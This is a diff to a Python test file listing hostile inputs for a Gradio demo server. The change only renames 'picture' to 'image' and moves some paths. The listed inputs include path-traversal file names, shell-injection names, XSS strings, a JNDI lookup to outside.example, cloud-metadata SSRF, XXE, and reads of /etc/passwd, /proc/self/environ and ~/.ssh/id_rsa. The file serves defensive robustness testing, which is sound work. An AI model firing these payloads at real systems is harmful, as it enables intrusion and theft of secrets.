@@ -1,4 +1,4 @@
-"""Names, calls and requests that are sent to the demo to break it, and no pictures: those are in `hostile_pictures`."""
+"""Names, calls and requests that are sent to the demo to break it, and no images: those are in `hostile_images`."""
 
 from __future__ import annotations
 
@@ -6,7 +6,7 @@ import json
 from typing import Any
 
 from tests.real_data import ROOT
-from tests.ui.hostile_pictures import png
+from tests.ui.hostile_images import png
 
 Request = tuple[str, str, dict[str, str], bytes]
 """Method, path, headers, body."""
@@ -16,8 +16,8 @@ NAMES = [
     "%2e%2e%2f%2e%2e%2fevil.png", "....//....//evil.png", "..%c0%af..%c0%afevil.png", "con.png", "nul", ".", "..", " ",
     ".htaccess", ".png", "evil.png/", "x.png\r\nSet-Cookie: a=b", "<script>window.hurt=1</script>.png",
     "<img src=x onerror=window.hurt=1>.png", '" onmouseover="x.png', "javascript:window.hurt=1.png", "a" * 300 + ".png",
-    "ä" * 200 + ".png", "🦊.png", "\u202egnp.exe", "e\u0301.png", "picture.svg", "picture.html", "picture.php",
-    "picture.png.exe", "`touch evil`.png", "$(touch evil).png", ";touch evil;.png", "|touch evil.png", "{{7*7}}.png",
+    "ä" * 200 + ".png", "🦊.png", "\u202egnp.exe", "e\u0301.png", "image.svg", "image.html", "image.php",
+    "image.png.exe", "`touch evil`.png", "$(touch evil).png", ";touch evil;.png", "|touch evil.png", "{{7*7}}.png",
     "${jndi:ldap://outside.example/x}.png", "%s%s%n.png", "![a](http://outside.example/x).png", "-rf.png", "~root.png",
     "file:///etc/passwd", "http://outside.example/x.png", "\\\\outside.example\\share\\x.png",
     "*?.png", "'; drop--.png",
@@ -40,7 +40,8 @@ def _deep(depth: int) -> Any:
 
 OUTSIDE = [
     "/etc/passwd", "/etc/hostname", "/proc/self/environ", "/dev/zero", "/dev/random", "/dev/stdin", "/", ".", "..", "~",
-    str(ROOT / "ui" / "favicon.png"), str(ROOT / "pyproject.toml"), "ui/favicon.png", "../../../../../etc/passwd",
+    str(ROOT / "ui" / "favicon.png"), str(ROOT / "pyproject.toml"), "ui/server/favicon.png",
+    "../../../../../etc/passwd",
     "file:///etc/passwd", "http://outside.example/x.png", "https://127.0.0.1:1/x.png", "ftp://outside.example/x.png",
     "http://169.254.169.254/latest/meta-data", "data:image/png;base64,AAAA", "x\0y", "x" * 5000, "\\\\outside\\x.png",
 ]  # fmt: skip
@@ -53,10 +54,10 @@ CALLS: dict[str, Any] = {
     "path as a list": [_file(path=["/etc/passwd"]), "good"],
     "path as nothing": [_file(path=None), "good"],
     "stream": [_file(path="x", is_stream=True), "good"],
-    "picture as text": ["x", "good"],
-    "picture as a number": [1e308, "good"],
-    "picture as a list": [[1, 2, 3], "good"],
-    "picture as nothing": [None, "good"],
+    "image as text": ["x", "good"],
+    "image as a number": [1e308, "good"],
+    "image as a list": [[1, 2, 3], "good"],
+    "image as nothing": [None, "good"],
     "hidden in a list": [[_file(path="/etc/passwd")], "good"],
     "hidden deep": [{"a": {"b": [_file(path="/etc/passwd")]}}, "good"],
     "very deep": [_deep(900), "good"],
@@ -92,7 +93,8 @@ FILES = [
     "/gradio_api/file=/etc/passwd", "/gradio_api/file=../../../../etc/passwd", "/gradio_api/file=%2Fetc%2Fpasswd",
     "/gradio_api/file=%252Fetc%252Fpasswd", "/gradio_api/file=file:///etc/passwd",
     "/gradio_api/file=/proc/self/environ",
-    "/gradio_api/file=/proc/self/fd/0", "/gradio_api/file=/dev/zero", "/gradio_api/file=ui/app.py", "/gradio_api/file=",
+    "/gradio_api/file=/proc/self/fd/0", "/gradio_api/file=/dev/zero", "/gradio_api/file=ui/server/app.py",
+    "/gradio_api/file=",
     "/gradio_api/file=.", "/gradio_api/file=~/.ssh/id_rsa", "/gradio_api/file=%00", "/gradio_api/file=\\\\outside\\x",
     f"/gradio_api/file={ROOT}/pyproject.toml", "/gradio_api/file=http://outside.example/x.png",
     "/gradio_api/file=https://127.0.0.1:1/", "/gradio_api/file=%68ttp://outside.example/",
@@ -101,7 +103,7 @@ FILES = [
     "/static/../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fpasswd", "/assets/..%2f..%2froutes.py",
     "/assets/%2e%2e/%2e%2e/routes.py", "/assets//etc/passwd", "/static//etc/passwd", "/svelte/../../routes.py",
     "/gradio_api/custom_component/x/server/component/..%2f..%2froutes.py", "/theme.css/../../x", "//etc/passwd",
-    "/..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/.git/config", "/.env", "/wp-login.php", "/ui/app.py",
+    "/..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/.git/config", "/.env", "/wp-login.php", "/ui/server/app.py",
     "/gradio_api/stream/x/1/2/playlist.m3u8", "/gradio_api/stream/..%2fx/1/2/..%2fy.ts",
 ]  # fmt: skip
 REQUESTS: dict[str, Request] = {
@@ -139,7 +141,7 @@ REQUESTS: dict[str, Request] = {
         "/gradio_api/queue/join", b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"
     ),
     "body above the limit": _post("/gradio_api/queue/join", b'{"data": ["' + b"x" * 3_000_000 + b'"]}'),
-    "answer of nobody": _get("/gradio_api/call/predict/nobody"),
+    "response of nobody": _get("/gradio_api/call/predict/nobody"),
     "upload without a form": _post("/gradio_api/upload", b"x"),
     "upload without a boundary": _post("/gradio_api/upload", b"x", {"content-type": "multipart/form-data"}),
     "upload without an end": _post("/gradio_api/upload", b'--x\r\nContent-Disposition: form-data; name="f', FORM),
@@ -155,7 +157,7 @@ REQUESTS: dict[str, Request] = {
     "progress of nobody's upload": _get("/gradio_api/upload_progress"),
     "cancel nobody": _post("/gradio_api/cancel", {"session_hash": "x", "fn_index": 0}),
     "reset nobody": _post("/gradio_api/reset", {"event_id": "x"}),
-    "one request, no picture": _post("/api/predict?model=good", b"", {}),
+    "one request, no image": _post("/api/predict?model=good", b"", {}),
     "one request, no model": _post("/api/predict", png(), {}),
     "one request, garbage": _post("/api/predict?model=good", b"no picture", {}),
     "one request, svg": _post("/api/predict?model=good", b"<svg><script>1</script></svg>", {}),
